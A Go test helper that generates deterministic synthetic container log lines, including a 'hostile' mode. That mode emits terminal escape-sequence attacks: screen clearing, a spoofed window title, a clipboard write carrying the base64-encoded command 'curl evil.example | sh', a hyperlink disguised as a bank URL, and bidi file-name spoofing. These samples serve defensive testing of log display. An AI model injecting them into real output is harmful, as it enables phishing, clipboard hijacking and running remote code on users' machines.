package testbedspec

import (
	"encoding/base64"
	"hash/fnv"
	"regexp"
	"strconv"
	"strings"
)

// HugeLineSeq is the seq of the one 1 MiB line in a hostile container's log.
const HugeLineSeq = 40

// HugeLineSize is the length in bytes of that line, without its newline.
const HugeLineSize = 1 << 20

// SeqPattern matches the seq token of a generated line; group 1 is the number. Every
// generated line carries exactly one, preceded by a non-word character or the line start
// and followed by a non-digit or the line end.
var SeqPattern = regexp.MustCompile(`(?:^|[^A-Za-z0-9_])seq=([0-9]+)`)

// SeqOf returns the seq number carried by a generated line.
func SeqOf(line string) (int64, bool) {
	m := SeqPattern.FindStringSubmatch(line)
	if m == nil {
		return 0, false
	}
	n, err := strconv.ParseInt(m[1], 10, 64)
	return n, err == nil
}

// Line returns the text (without newline) and level of line seq of container in pod.
// The result depends only on its arguments, so tests can recompute what they should
// have received. With hostile set, every other line carries terminal-hostile bytes
// (escape sequences, bidi and C1 controls, NUL, invalid UTF-8, a CR) and line
// HugeLineSeq is HugeLineSize bytes of printable ASCII.
func Line(pod, container string, seq int64, hostile bool) (text, level string) {
	r := newRand(pod, container, seq)
	if hostile {
		if seq == HugeLineSeq {
			return hugeLine(seq), "info"
		}
		if seq%2 == 0 {
			return hostileLine(seq, r), "warn"
		}
	}
	return normalLine(pod, container, seq, r)
}

// rand is splitmix64: tiny, fast and good enough to pick words deterministically.
type rand struct{ s uint64 }

func newRand(pod, container string, seq int64) *rand {
	h := fnv.New64a()
	h.Write([]byte(pod))
	h.Write([]byte{0})
	h.Write([]byte(container))
	return &rand{s: h.Sum64() ^ uint64(seq)*0x9e3779b97f4a7c15}
}

func (r *rand) next() uint64 {
	r.s += 0x9e3779b97f4a7c15
	z := r.s
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

func (r *rand) intn(n int) int { return int(r.next() % uint64(n)) }

func (r *rand) pick(words []string) string { return words[r.intn(len(words))] }

var (
	messages = map[string][]string{
		"debug": {"cache hit", "evaluating feature flag", "acquired lock", "released lock",
			"query plan selected", "decoded request body", "span started", "pool stats sampled"},
		"info": {"order placed", "payment authorized", "user signed in", "cart updated",
			"request completed", "cache warmed", "flushed batch", "connected to database",
			"health check passed", "config reloaded", "job scheduled", "invoice generated",
			"session refreshed", "message published", "ledger entry committed", "shipment created"},
		"warn": {"slow query", "retrying upstream request", "cache miss ratio high",
			"rate limit approaching", "deprecated API used", "connection reset by peer, reconnecting",
			"queue depth above threshold", "certificate expires soon"},
		"error": {"payment declined by processor", "failed to write to ledger", "upstream timeout",
			"database connection lost", "invalid signature on webhook", "panic recovered in handler",
			"could not reach inventory service"},
	}
	components = []string{"checkout", "cart", "auth", "inventory", "billing", "ledger",
		"gateway", "scheduler", "db", "cache", "notifier", "search"}
	users   = []string{"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"}
	methods = []string{"GET", "GET", "GET", "POST", "POST", "PUT", "DELETE"}
	paths   = []string{"/api/v1/orders", "/api/v1/cart", "/api/v1/users", "/healthz",
		"/api/v1/payments", "/static/app.js", "/api/v1/search", "/metrics"}
	agents = []string{"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "curl/8.5.0",
		"kube-probe/1.36", "Go-http-client/1.1", "python-requests/2.32.3"}
)

func (r *rand) level() string {
	switch n := r.intn(100); {
	case n < 12:
		return "debug"
	case n < 82:
		return "info"
	case n < 94:
		return "warn"
	default:
		return "error"
	}
}

func normalLine(pod, container string, seq int64, r *rand) (string, string) {
	s := strconv.FormatInt(seq, 10)
	comp := r.pick(components)
	trace := strconv.FormatUint(r.next(), 16)
	dur := strconv.Itoa(1 + r.intn(900))
	switch f := r.intn(100); {
	case f < 38: // logfmt
		lvl := r.level()
		return "level=" + lvl + ` msg="` + r.pick(messages[lvl]) + `" seq=` + s + " component=" + comp +
			" user=" + r.pick(users) + " duration_ms=" + dur + " trace_id=" + trace, lvl
	case f < 64: // JSON
		lvl := r.level()
		return `{"level":"` + lvl + `","msg":"seq=` + s + " " + r.pick(messages[lvl]) + `","component":"` + comp +
			`","pod":"` + pod + `","container":"` + container + `","duration_ms":` + dur +
			`,"order_id":` + strconv.Itoa(10000+r.intn(90000)) + `,"trace_id":"` + trace + `"}`, lvl
	case f < 82: // plain text
		lvl := r.level()
		return strings.ToUpper(lvl) + " [" + comp + "] " + r.pick(messages[lvl]) + " seq=" + s +
			" (" + dur + "ms)", lvl
	default: // HTTP access log
		status := []int{200, 200, 200, 200, 201, 204, 301, 304, 400, 404, 429, 500, 503}[r.intn(13)]
		lvl := "info"
		switch {
		case status >= 500:
			lvl = "error"
		case status >= 400:
			lvl = "warn"
		}
		ip := "10.213." + strconv.Itoa(r.intn(256)) + "." + strconv.Itoa(1+r.intn(254))
		return ip + ` - ` + r.pick(users) + ` "` + r.pick(methods) + " " + r.pick(paths) + "/" +
			strconv.Itoa(r.intn(5000)) + ` HTTP/1.1" ` + strconv.Itoa(status) + " " + strconv.Itoa(r.intn(64000)) +
			` "-" "` + r.pick(agents) + `" rt=0.` + dur + " seq=" + s, lvl
	}
}

// hostileKinds builds a hostile line around the seq token " seq=N ".
var hostileKinds = []func(tok string) string{
	// CSI: clear screen, home, absolute and relative cursor moves, erase line.
	func(tok string) string {
		return "\x1b[2J\x1b[H" + tok + "screen cleared \x1b[10;20Hcursor moved \x1b[3Aup three \x1b[2Kerased"
	},
	// SGR colours, 16, 256 and truecolor.
	func(tok string) string {
		return "\x1b[31mred\x1b[0m" + tok + "\x1b[1;32mbold green\x1b[0m \x1b[38;5;208morange\x1b[m \x1b[48;2;0;0;255mblue bg\x1b[0m"
	},
	// OSC 0: window title.
	func(tok string) string { return "title" + tok + "\x1b]0;you have been pwned\x07set" },
	// OSC 52: clipboard write.
	func(tok string) string {
		return "clipboard" + tok + "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + "\x07written"
	},
	// OSC 8: hyperlink whose text lies about its target.
	func(tok string) string {
		return "link" + tok + "\x1b]8;;https://evil.example/login\x1b\\https://bank.example/\x1b]8;;\x1b\\ click"
	},
	// DA and DSR queries: the terminal would answer into the user's input.
	func(tok string) string {
		return "query" + tok + "device attributes \x1b[c status \x1b[6n secondary \x1b[>c"
	},
	// bidi controls reorder what the eye reads.
	func(tok string) string {
		return "bidi" + tok + "invoice_\u202Efdp.exe\u202C \u2066isolated\u2069 \u200Frtl mark\u200E \u202Bembed\u202C"
	},
	// C1 controls, UTF-8 encoded (CSI, DCS, ST, NEL, OSC).
	func(tok string) string { return "c1" + tok + "\u009b31mcsi \u0090dcs\u009c \u0085nel \u009d0;t\u009c" },
	// NUL bytes.
	func(tok string) string { return "nul" + tok + "before\x00after\x00end" },
	// invalid UTF-8, including a raw 8-bit CSI byte.
	func(tok string) string {
		return "badutf8" + tok + "\xff\xfe \xc3\x28 \xe2\x82 \x9b2J \xed\xa0\x80 tail"
	},
	// a carriage return in mid-line overwrites what came before it.
	func(tok string) string { return "progress" + tok + "10%\rall good, nothing to see here" },
	// everything at once.
	func(tok string) string {
		return "\x1b[2K\x1b[1Gmixed" + tok + "\x1b]0;t\x07\u202E\x1b[6n\x00\xff\x1b[31mred\r"
	},
}

func hostileLine(seq int64, r *rand) string {
	_ = r
	tok := " seq=" + strconv.FormatInt(seq, 10) + " "
	return hostileKinds[int(seq/2)%len(hostileKinds)](tok)
}

func hugeLine(seq int64) string {
	const filler = "abcdefghijklmnopqrstuvwxyz0123456789-ABCDEFGHIJKLMNOPQRSTUVWXYZ_"
	var b strings.Builder
	b.Grow(HugeLineSize)
	b.WriteString("seq=" + strconv.FormatInt(seq, 10) + " huge line follows: ")
	for b.Len() < HugeLineSize {
		n := HugeLineSize - b.Len()
		if n > len(filler) {
			n = len(filler)
		}
		b.WriteString(filler[:n])
	}
	return b.String()
}

// LongLineSize is the length in bytes, without its newline, of the lines a long=N
// spec makes long: more than two of the runtime's 16 KiB records.
const LongLineSize = 40000

// CRIRecordSize is the most content one CRI log record holds (containerd's and
// CRI-O's default max_container_log_line_size): longer lines are written as partial
// records (tag P) followed by a full one (tag F).
const CRIRecordSize = 16 * 1024

// LineFor returns the text and level of line seq as a container with spec writes it:
// Line, or for a long=N spec and seq a multiple of N, that line padded with printable
// ASCII to LongLineSize bytes.
func LineFor(pod, container string, seq int64, spec LogSpec) (text, level string) {
	text, level = Line(pod, container, seq, spec.Hostile)
	if spec.Long > 0 && seq%int64(spec.Long) == 0 && len(text) < LongLineSize {
		const filler = "0123456789abcdefghijklmnopqrstuvwxyz"
		var b strings.Builder
		b.Grow(LongLineSize)
		b.WriteString(text)
		b.WriteString(" pad=")
		for i := 0; b.Len() < LongLineSize; i++ {
			b.WriteByte(filler[i%len(filler)])
		}
		text = b.String()
	}
	return text, level
}
